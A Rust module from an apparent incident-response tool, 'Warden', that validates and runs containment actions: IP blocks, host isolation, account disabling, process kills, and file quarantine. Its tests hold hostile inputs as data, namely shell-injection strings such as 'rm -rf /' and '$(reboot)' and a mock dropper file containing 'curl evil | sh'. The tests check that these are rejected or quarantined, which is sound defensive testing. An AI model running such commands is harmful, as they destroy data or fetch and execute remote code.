//! `contain_threat` actions: validation, the exact commands, and their execution.
//!
//! Every target is parsed before anything is built from it — an address into an
//! `IpAddr`, an account against the portable user-name grammar, a PID into a number
//! with its start time, a path into a canonical absolute path — so attacker-chosen
//! text cannot become an option or a second command. Commands are argument vectors run
//! without a shell; the two that are not commands (killing a process, quarantining a
//! file) are done natively so that they can be checked and race-free.
//!
//! Protected entities are refused here, whatever asked: loopback, the host's own and
//! configured addresses; `root`, every UID-0 account and the configured
//! administrators; PID 1, Warden itself and its parent, kernel threads; the pseudo
//! file systems and Warden's own data.

use std::net::IpAddr;
use std::path::{Path, PathBuf};

use ipnet::IpNet;
use serde::{Deserialize, Serialize};

use super::contain::{NFT_TABLE, Protected, nft_set};
use crate::messages::ActionKind;

/// Warden's isolation table (separate from the block table so releasing it is one
/// `delete table`).
pub const NFT_ISOLATE_TABLE: &str = "warden_isolate";

/// What containment may and may not touch, and where it puts things.
#[derive(Debug, Clone, Default)]
pub struct ContainPolicy {
    pub protected: std::sync::Arc<Protected>,
    /// Accounts never disabled (besides every UID-0 account).
    pub protected_accounts: Vec<String>,
    /// Networks that stay reachable when the local host is isolated.
    pub management: Vec<IpNet>,
    /// Where quarantined files go.
    pub quarantine_dir: PathBuf,
    /// The command that isolates a remote host, with `{host}` standing for it.
    pub remote_isolate: Vec<String>,
    /// The command that releases a remote host.
    pub remote_release: Vec<String>,
    /// The password file accounts are looked up in (tests point it elsewhere).
    pub passwd: PathBuf,
    /// Where collected evidence is stored.
    pub evidence_dir: PathBuf,
    /// External evidence collectors (memory or disk imaging): their standard output is
    /// stored as evidence.
    pub collectors: Vec<crate::config::Collector>,
    /// With `[cluster]`: blocks and unblocks are decisions for the fleet (the
    /// decisions bucket), applied by each host's enforcer, not commands run here.
    pub fleet: Option<std::sync::Arc<crate::cluster::fleet::Fleet>>,
}

impl ContainPolicy {
    pub fn new(protected: std::sync::Arc<Protected>) -> Self {
        ContainPolicy {
            protected,
            protected_accounts: vec!["root".into()],
            passwd: PathBuf::from("/etc/passwd"),
            ..Default::default()
        }
    }
}

/// A validated action, ready to run (or to show).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Plan {
    pub kind: ActionKind,
    /// The target as validated and rendered back (`203.0.113.7`, `alice`, `4242@start=…`).
    pub target: String,
    /// Commands, in order (what observe mode records).
    pub argv: Vec<Vec<String>>,
    /// Done natively after the commands.
    pub native: Option<Native>,
    /// Exit statuses that mean "nothing to do" for each command (pkill: no process).
    #[serde(default)]
    pub ok_codes: Vec<Vec<i32>>,
}

/// The two actions that are not commands.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Native {
    /// Kill `pid` only if it is still the process that was seen: same start time
    /// (clock ticks since boot) and executable.
    Kill { pid: i32, start_time: u64, exe: Option<PathBuf> },
    /// Move `path` into `dir` under its SHA-256, permissions stripped.
    Quarantine { path: PathBuf, dir: PathBuf },
    /// Put a quarantined file back (its manifest says where and with which mode).
    Restore { sha256: String, dir: PathBuf },
}

impl Plan {
    /// The commands as one line per command, for records and dry runs.
    pub fn display(&self) -> Vec<String> {
        let mut out: Vec<String> = self.argv.iter().map(|a| a.join(" ")).collect();
        match &self.native {
            Some(Native::Kill { pid, start_time, exe }) => out.push(format!(
                "kill -KILL {pid} (only if start time {start_time}{})",
                exe.as_ref().map(|e| format!(", exe {}", e.display())).unwrap_or_default()
            )),
            Some(Native::Quarantine { path, dir }) => {
                out.push(format!("quarantine {} into {}", path.display(), dir.display()))
            }
            Some(Native::Restore { sha256, dir }) => out.push(format!("restore {sha256} from {}", dir.display())),
            None => {}
        }
        out
    }

    /// The single argv that stands for the plan in records (the first command, or the
    /// native step spelled as one).
    pub fn primary_argv(&self) -> Vec<String> {
        self.argv.first().cloned().unwrap_or_else(|| self.display())
    }
}

/// Why an action is refused (or, for a native step, could not be carried out): said as
/// is on the incident and to whoever asked.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct Denied(pub String);

impl From<String> for Denied {
    fn from(why: String) -> Self {
        Denied(why)
    }
}

impl From<&str> for Denied {
    fn from(why: &str) -> Self {
        Denied(why.to_string())
    }
}

/// The reason, as text.
impl std::ops::Deref for Denied {
    type Target = str;
    fn deref(&self) -> &str {
        &self.0
    }
}

/// The portable user-name grammar (POSIX.1-2017 §3.437 plus the usual `_`/`-` and a
/// trailing `$` for machine accounts), at most 32 characters, never starting with `-`.
pub fn valid_account(name: &str) -> bool {
    let b = name.as_bytes();
    !b.is_empty()
        && b.len() <= 32
        && (b[0].is_ascii_lowercase() || b[0] == b'_')
        && b.iter().enumerate().all(|(i, c)| {
            c.is_ascii_lowercase()
                || c.is_ascii_digit()
                || *c == b'_'
                || *c == b'-'
                || *c == b'.'
                || (*c == b'$' && i == b.len() - 1)
        })
}

/// `(uid)` of an account in a passwd file.
fn account_uid(passwd: &Path, name: &str) -> Option<u32> {
    let text = std::fs::read_to_string(passwd).ok()?;
    text.lines().find_map(|l| {
        let mut f = l.split(':');
        (f.next()? == name).then(|| f.nth(1)?.parse().ok())?
    })
}

/// A host name or address for the remote-isolation command.
fn valid_host(h: &str) -> bool {
    h.parse::<IpAddr>().is_ok()
        || (!h.is_empty()
            && h.len() <= 253
            && !h.starts_with('-')
            && h.split('.').all(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')))
}

/// Field 22 of `/proc/PID/stat`: the start time in clock ticks since boot. The command
/// name (field 2) may contain anything, `)` included: fields are counted after the
/// last `)`.
pub fn process_start_time(pid: i32) -> Option<u64> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let rest = &stat[stat.rfind(')')? + 1..];
    rest.split_whitespace().nth(19)?.parse().ok()
}

/// Validates an action and builds what it runs. `ttl_secs` is the block's timeout.
pub fn plan(kind: ActionKind, target: &str, ttl_secs: u64, policy: &ContainPolicy) -> Result<Plan, Denied> {
    let shown = crate::text::sanitize(target, 80);
    let p = Planning { kind, target, shown: &shown, policy };
    match kind {
        ActionKind::BlockIp | ActionKind::UnblockIp => p.address(ttl_secs),
        ActionKind::IsolateHost | ActionKind::ReleaseHost => p.isolation(),
        ActionKind::DisableAccount | ActionKind::EnableAccount => p.account(),
        ActionKind::KillProcess => p.process(),
        ActionKind::QuarantineFile => p.quarantine(),
        ActionKind::RestoreFile => p.restore(),
    }
}

/// One action being planned: what it is, on what (and that target as it may be shown).
struct Planning<'a> {
    kind: ActionKind,
    target: &'a str,
    shown: &'a str,
    policy: &'a ContainPolicy,
}

fn argv(v: &[&str]) -> Vec<String> {
    v.iter().map(|x| x.to_string()).collect()
}

impl Planning<'_> {
    fn mk(&self, target: String, argv: Vec<Vec<String>>, native: Option<Native>) -> Plan {
        Plan { kind: self.kind, target, ok_codes: vec![Vec::new(); argv.len()], argv, native }
    }

    /// `block_ip`, `unblock_ip`: an element of Warden's nftables set, with its timeout.
    fn address(&self, ttl_secs: u64) -> Result<Plan, Denied> {
        let (kind, target, shown, policy) = (self.kind, self.target, self.shown, self.policy);
        // `::ffff:a.b.c.d` is the IPv4 address: only the IPv4 set ever matches its packets.
        let ip: IpAddr =
            target.trim().parse::<IpAddr>().map_err(|_| format!("`{shown}` is not an IP address"))?.to_canonical();
        if kind == ActionKind::BlockIp && policy.protected.contains(ip) {
            return Err(format!("{ip} is protected").into());
        }
        let argv = if kind == ActionKind::BlockIp {
            super::contain::block_ip_argv(ip, ttl_secs.max(1))
        } else {
            vec![
                "nft".into(),
                "delete".into(),
                "element".into(),
                "inet".into(),
                NFT_TABLE.into(),
                nft_set(ip).into(),
                format!("{{ {ip} }}"),
            ]
        };
        let mut p = self.mk(ip.to_string(), vec![argv], None);
        if kind == ActionKind::UnblockIp {
            // The set's own timeout may have removed the element already (nft then
            // exits 1: no such element): nothing left to undo.
            p.ok_codes = vec![vec![1]];
        }
        Ok(p)
    }

    /// `isolate_host`, `release_host`: this host by nftables, a remote one by the
    /// configured command.
    fn isolation(&self) -> Result<Plan, Denied> {
        let (kind, target, shown, policy) = (self.kind, self.target, self.shown, self.policy);
        let host = target.trim();
        if host.is_empty() || host == "local" || host == "localhost" {
            if kind == ActionKind::IsolateHost && policy.management.is_empty() {
                return Err("no management network is configured: isolating this host would lock everyone out".into());
            }
            let argv = if kind == ActionKind::IsolateHost {
                argv(&["nft", "-f", "-"])
            } else {
                argv(&["nft", "delete", "table", "inet", NFT_ISOLATE_TABLE])
            };
            return Ok(self.mk("local".into(), vec![argv], None));
        }
        if !valid_host(host) {
            return Err(format!("`{shown}` is not a host name or address").into());
        }
        if let Ok(ip) = host.parse::<IpAddr>()
            && kind == ActionKind::IsolateHost
            && policy.protected.contains(ip)
        {
            return Err(format!("{ip} is protected").into());
        }
        let template = if kind == ActionKind::IsolateHost { &policy.remote_isolate } else { &policy.remote_release };
        if template.is_empty() {
            return Err(format!("no command is configured to {} a remote host", kind).into());
        }
        let argv = template.iter().map(|a| a.replace("{host}", host)).collect();
        Ok(self.mk(host.to_string(), vec![argv], None))
    }

    /// `disable_account`, `enable_account`: lock and expire, end its sessions; undo.
    fn account(&self) -> Result<Plan, Denied> {
        let (kind, target, shown, policy) = (self.kind, self.target, self.shown, self.policy);
        let user = target.trim();
        if !valid_account(user) {
            return Err(format!("`{shown}` is not a valid account name").into());
        }
        let uid = account_uid(&policy.passwd, user).ok_or_else(|| format!("no local account `{user}`"))?;
        if kind == ActionKind::DisableAccount && (uid == 0 || policy.protected_accounts.iter().any(|a| a == user)) {
            return Err(format!("account `{user}` is protected").into());
        }
        if kind == ActionKind::DisableAccount {
            // Lock the password, expire the account (no key login either), end
            // its sessions. pkill exits 1 when the account runs nothing.
            let mut p = self.mk(
                user.to_string(),
                vec![
                    argv(&["usermod", "--lock", "--expiredate", "1", "--", user]),
                    argv(&["pkill", "--signal", "KILL", "--uid", user]),
                ],
                None,
            );
            p.ok_codes = vec![vec![], vec![1]];
            Ok(p)
        } else {
            Ok(self.mk(user.to_string(), vec![argv(&["usermod", "--unlock", "--expiredate", "", "--", user])], None))
        }
    }

    /// `kill_process`: only the process that was seen (same start time, executable).
    fn process(&self) -> Result<Plan, Denied> {
        let (target, shown) = (self.target, self.shown);
        // `PID` (the process as it is now) or `PID@START` (as it was seen).
        let (pid, seen) = match target.trim().split_once('@') {
            Some((p, st)) => (p, Some(st)),
            None => (target.trim(), None),
        };
        let pid: i32 = pid.parse().ok().filter(|p| *p > 0).ok_or_else(|| format!("`{shown}` is not a PID"))?;
        let me = std::process::id() as i32;
        let parent = std::os::unix::process::parent_id() as i32;
        if pid == 1 || pid == me || pid == parent {
            return Err(format!("process {pid} is protected (init or Warden itself)").into());
        }
        let now = process_start_time(pid).ok_or_else(|| format!("no process {pid}"))?;
        let start_time = match seen {
            Some(st) => st.parse::<u64>().map_err(|_| format!("`{shown}`: the start time is not a number"))?,
            None => now,
        };
        if start_time != now {
            return Err(format!(
                "process {pid} is not the one that was seen (start time {now}, expected {start_time})"
            )
            .into());
        }
        let exe = std::fs::read_link(format!("/proc/{pid}/exe")).ok();
        if exe.is_none() && std::fs::read_to_string(format!("/proc/{pid}/cmdline")).is_ok_and(|c| c.is_empty()) {
            return Err(format!("process {pid} is a kernel thread").into());
        }
        Ok(self.mk(format!("{pid}@{start_time}"), Vec::new(), Some(Native::Kill { pid, start_time, exe })))
    }

    /// `quarantine_file`: a regular file outside the system's own, moved by its hash.
    fn quarantine(&self) -> Result<Plan, Denied> {
        let (target, shown, policy) = (self.target, self.shown, self.policy);
        let p = Path::new(target.trim());
        if !p.is_absolute() {
            return Err(format!("`{shown}` is not an absolute path").into());
        }
        let path = p.canonicalize().map_err(|e| format!("`{shown}`: {e}"))?;
        let meta = std::fs::symlink_metadata(&path).map_err(|e| format!("`{shown}`: {e}"))?;
        if !meta.is_file() {
            return Err(format!("`{}` is not a regular file", path.display()).into());
        }
        let forbidden = ["/proc", "/sys", "/dev", "/run", "/boot"];
        if forbidden.iter().any(|f| path.starts_with(f))
            || path.starts_with(&policy.quarantine_dir)
            || ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/sudoers"].iter().any(|f| path == Path::new(f))
        {
            return Err(format!("`{}` is protected", path.display()).into());
        }
        let dir = policy.quarantine_dir.clone();
        Ok(self.mk(path.display().to_string(), Vec::new(), Some(Native::Quarantine { path, dir })))
    }

    /// `restore_file`: a quarantined file back, by its SHA-256.
    fn restore(&self) -> Result<Plan, Denied> {
        let (target, shown, policy) = (self.target, self.shown, self.policy);
        let sha = target.trim();
        if sha.len() != 64 || !sha.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Err(format!("`{shown}` is not a quarantined file's SHA-256").into());
        }
        let sha256 = sha.to_ascii_lowercase();
        Ok(self.mk(sha256.clone(), Vec::new(), Some(Native::Restore { sha256, dir: policy.quarantine_dir.clone() })))
    }
}

/// The nft script that isolates this host: only loopback and the management networks
/// in or out. Built from parsed networks only.
pub fn isolate_script(management: &[IpNet]) -> String {
    let v4: Vec<String> = management.iter().filter(|n| matches!(n, IpNet::V4(_))).map(|n| n.to_string()).collect();
    let v6: Vec<String> = management.iter().filter(|n| matches!(n, IpNet::V6(_))).map(|n| n.to_string()).collect();
    let rule = |dir: &str, fam: &str, nets: &[String]| {
        if nets.is_empty() { String::new() } else { format!("    {fam} {dir} {{ {} }} accept\n", nets.join(", ")) }
    };
    format!(
        "table inet {t} {{\n  chain input {{\n    type filter hook input priority -20; policy drop;\n    iif \"lo\" accept\n{}{}  }}\n  chain output {{\n    type filter hook output priority -20; policy drop;\n    oif \"lo\" accept\n{}{}  }}\n}}\n",
        rule("saddr", "ip", &v4),
        rule("saddr", "ip6", &v6),
        rule("daddr", "ip", &v4),
        rule("daddr", "ip6", &v6),
        t = NFT_ISOLATE_TABLE
    )
}

/// What a quarantined file's manifest records.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct QuarantineRecord {
    pub original: PathBuf,
    pub sha256: String,
    pub size: u64,
    pub mode: u32,
    pub uid: u32,
    pub gid: u32,
    pub quarantined_at: chrono::DateTime<chrono::Utc>,
}

/// Moves a file into quarantine: its content (read once) is hashed, written as
/// `<dir>/<sha256>` with no permissions, the manifest beside it, then the original is
/// removed. Returns the record.
pub fn quarantine(path: &Path, dir: &Path) -> Result<QuarantineRecord, Denied> {
    use sha2::Digest;
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let meta = std::fs::symlink_metadata(path).map_err(|e| format!("{}: {e}", path.display()))?;
    if !meta.is_file() {
        return Err(format!("{} is not a regular file", path.display()).into());
    }
    let content = std::fs::read(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let sha256 = format!("{:x}", sha2::Sha256::digest(&content));
    std::fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    let _ = std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700));
    let stored = dir.join(&sha256);
    std::fs::write(&stored, &content).map_err(|e| format!("{}: {e}", stored.display()))?;
    std::fs::File::open(&stored).and_then(|f| f.sync_all()).map_err(|e| format!("{}: {e}", stored.display()))?;
    std::fs::set_permissions(&stored, std::fs::Permissions::from_mode(0o000))
        .map_err(|e| format!("{}: {e}", stored.display()))?;
    let record = QuarantineRecord {
        original: path.to_path_buf(),
        sha256: sha256.clone(),
        size: content.len() as u64,
        mode: meta.mode() & 0o7777,
        uid: meta.uid(),
        gid: meta.gid(),
        quarantined_at: chrono::Utc::now(),
    };
    let manifest = dir.join(format!("{sha256}.json"));
    std::fs::write(&manifest, serde_json::to_vec_pretty(&record).unwrap_or_default())
        .map_err(|e| format!("{}: {e}", manifest.display()))?;
    std::fs::remove_file(path).map_err(|e| format!("{}: {e}", path.display()))?;
    Ok(record)
}

/// Puts a quarantined file back where it was, with its mode, if nothing took its place.
pub fn restore(sha256: &str, dir: &Path) -> Result<QuarantineRecord, Denied> {
    use std::os::unix::fs::PermissionsExt;
    let manifest = dir.join(format!("{sha256}.json"));
    let record: QuarantineRecord =
        serde_json::from_slice(&std::fs::read(&manifest).map_err(|e| format!("{}: {e}", manifest.display()))?)
            .map_err(|e| format!("{}: {e}", manifest.display()))?;
    if record.original.exists() {
        return Err(format!("{} exists again: not overwritten", record.original.display()).into());
    }
    let stored = dir.join(sha256);
    std::fs::set_permissions(&stored, std::fs::Permissions::from_mode(0o400)).map_err(|e| e.to_string())?;
    let content = std::fs::read(&stored).map_err(|e| format!("{}: {e}", stored.display()))?;
    std::fs::write(&record.original, &content).map_err(|e| format!("{}: {e}", record.original.display()))?;
    std::fs::set_permissions(&record.original, std::fs::Permissions::from_mode(record.mode))
        .map_err(|e| e.to_string())?;
    std::fs::remove_file(&stored).map_err(|e| e.to_string())?;
    std::fs::remove_file(&manifest).map_err(|e| e.to_string())?;
    Ok(record)
}

/// Kills a process only if it is still the one that was seen. A pidfd pins the process
/// between the check and the signal, so a PID reused in between is never hit.
pub fn kill_checked(pid: i32, start_time: u64, exe: Option<&Path>) -> Result<String, Denied> {
    use rustix::process::{Pid, PidfdFlags, Signal, pidfd_open, pidfd_send_signal};
    let p = Pid::from_raw(pid).ok_or_else(|| format!("{pid} is not a PID"))?;
    let fd = pidfd_open(p, PidfdFlags::empty()).map_err(|e| format!("process {pid} is gone: {e}"))?;
    let now = process_start_time(pid).ok_or_else(|| format!("process {pid} is gone"))?;
    if now != start_time {
        return Err(
            format!("process {pid} is not the one that was seen (start time {now}, expected {start_time})").into()
        );
    }
    if let Some(expected) = exe {
        let actual = std::fs::read_link(format!("/proc/{pid}/exe")).ok();
        if actual.as_deref() != Some(expected) {
            return Err(format!(
                "process {pid} now runs {} (expected {})",
                actual.map(|a| a.display().to_string()).unwrap_or_else(|| "nothing readable".into()),
                expected.display()
            )
            .into());
        }
    }
    pidfd_send_signal(&fd, Signal::KILL).map_err(|e| format!("kill {pid}: {e}"))?;
    Ok(format!("killed process {pid} (start time {start_time})"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A policy whose passwd file lives in a directory of its own (removed with the
    /// returned handle; tests running at once each have theirs).
    fn policy() -> (tempfile::TempDir, ContainPolicy) {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path();
        let passwd = dir.join("passwd");
        std::fs::write(
            &passwd,
            "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\nadmin:x:1001:1001::/home/admin:/bin/bash\n",
        )
        .unwrap();
        let policy = ContainPolicy {
            protected: std::sync::Arc::new(Protected::new(&["10.0.0.0/8".parse().unwrap()])),
            protected_accounts: vec!["root".into(), "admin".into()],
            management: vec!["192.168.50.0/24".parse().unwrap()],
            quarantine_dir: dir.join("warden-q"),
            remote_isolate: vec!["ssh".into(), "--".into(), "{host}".into(), "isolate".into()],
            remote_release: vec![],
            passwd,
            ..Default::default()
        };
        (tmp, policy)
    }

    #[test]
    fn hostile_targets_never_become_arguments() {
        let (_dir, p) = policy();
        for evil in ["203.0.113.7; rm -rf /", "--flush", "203.0.113.7\nnft flush ruleset", "$(reboot)", ""] {
            assert!(plan(ActionKind::BlockIp, evil, 60, &p).is_err(), "{evil:?}");
        }
        for evil in ["-r", "alice;id", "alice\nroot", "Alice", "../x", "a b", "root\0", "$(id)", "--expiredate"] {
            let e = plan(ActionKind::DisableAccount, evil, 0, &p).unwrap_err();
            assert!(e.contains("not a valid account name"), "{evil:?}: {e}");
        }
        assert!(plan(ActionKind::IsolateHost, "-oProxyCommand=x", 0, &p).is_err());
        assert!(plan(ActionKind::IsolateHost, "a;b", 0, &p).is_err());
        assert!(plan(ActionKind::KillProcess, "1; kill -9 -1", 0, &p).is_err());
        assert!(plan(ActionKind::QuarantineFile, "relative/path", 0, &p).is_err());
    }

    #[test]
    fn protected_entities_are_refused() {
        let (_dir, p) = policy();
        assert!(plan(ActionKind::BlockIp, "127.0.0.1", 60, &p).unwrap_err().contains("protected"));
        assert!(plan(ActionKind::BlockIp, "10.1.2.3", 60, &p).unwrap_err().contains("protected"));
        for a in ["root", "toor", "admin"] {
            assert!(plan(ActionKind::DisableAccount, a, 0, &p).unwrap_err().contains("protected"), "{a}");
        }
        assert!(plan(ActionKind::DisableAccount, "mallory", 0, &p).unwrap_err().contains("no local account"));
        assert!(plan(ActionKind::KillProcess, "1", 0, &p).unwrap_err().contains("protected"));
        assert!(
            plan(ActionKind::KillProcess, &std::process::id().to_string(), 0, &p).unwrap_err().contains("protected")
        );
        assert!(plan(ActionKind::QuarantineFile, "/etc/passwd", 0, &p).unwrap_err().contains("protected"));
        assert!(plan(ActionKind::QuarantineFile, "/proc/self/status", 0, &p).is_err());
        let mut none = p.clone();
        none.management.clear();
        assert!(plan(ActionKind::IsolateHost, "local", 0, &none).unwrap_err().contains("lock everyone out"));
    }

    #[test]
    fn exact_commands() {
        let (_dir, p) = policy();
        let b = plan(ActionKind::UnblockIp, " 2001:db8::7 ", 0, &p).unwrap();
        assert_eq!(b.argv[0], ["nft", "delete", "element", "inet", "warden", "blocklist_v6", "{ 2001:db8::7 }"]);
        // An IPv4 address written mapped in IPv6 goes to the set its packets meet.
        let m = plan(ActionKind::BlockIp, "::ffff:198.51.100.15", 60, &p).unwrap();
        assert_eq!(m.argv[0][5..], ["blocklist_v4", "{ 198.51.100.15 timeout 60s }"]);
        assert_eq!(m.target, "198.51.100.15");
        for never in ["255.255.255.255", "224.0.0.1", "ff02::1"] {
            assert!(plan(ActionKind::BlockIp, never, 60, &p).unwrap_err().contains("protected"), "{never}");
        }
        let d = plan(ActionKind::DisableAccount, "alice", 0, &p).unwrap();
        assert_eq!(d.argv[0], ["usermod", "--lock", "--expiredate", "1", "--", "alice"]);
        assert_eq!(d.argv[1], ["pkill", "--signal", "KILL", "--uid", "alice"]);
        let e = plan(ActionKind::EnableAccount, "alice", 0, &p).unwrap();
        assert_eq!(e.argv[0], ["usermod", "--unlock", "--expiredate", "", "--", "alice"]);
        let r = plan(ActionKind::IsolateHost, "web-2.example.net", 0, &p).unwrap();
        assert_eq!(r.argv[0], ["ssh", "--", "web-2.example.net", "isolate"]);
        let script = isolate_script(&p.management);
        assert!(script.contains("policy drop") && script.contains("ip saddr { 192.168.50.0/24 } accept"), "{script}");
        assert!(script.contains("iif \"lo\" accept") && script.contains("ip daddr { 192.168.50.0/24 } accept"));
    }

    #[test]
    fn start_time_is_read_after_the_last_parenthesis() {
        let me = std::process::id() as i32;
        assert!(process_start_time(me).unwrap() > 0);
        assert!(process_start_time(i32::MAX).is_none());
        assert!(valid_account("svc-backup$") && valid_account("_apt") && !valid_account("-x"));
    }

    #[test]
    fn quarantine_and_restore_round_trip() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("dropper.sh");
        std::fs::write(&f, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).unwrap();
        let q = dir.path().join("q");
        let rec = quarantine(&f, &q).unwrap();
        assert!(!f.exists());
        assert_eq!(rec.sha256.len(), 64);
        let stored = q.join(&rec.sha256);
        assert_eq!(std::fs::metadata(&stored).unwrap().permissions().mode() & 0o777, 0);
        assert_eq!(rec.mode, 0o755);
        let back = restore(&rec.sha256, &q).unwrap();
        assert_eq!(back.original, f);
        assert_eq!(std::fs::read(&f).unwrap(), b"#!/bin/sh\ncurl evil | sh\n");
        assert_eq!(std::fs::metadata(&f).unwrap().permissions().mode() & 0o777, 0o755);
    }
}
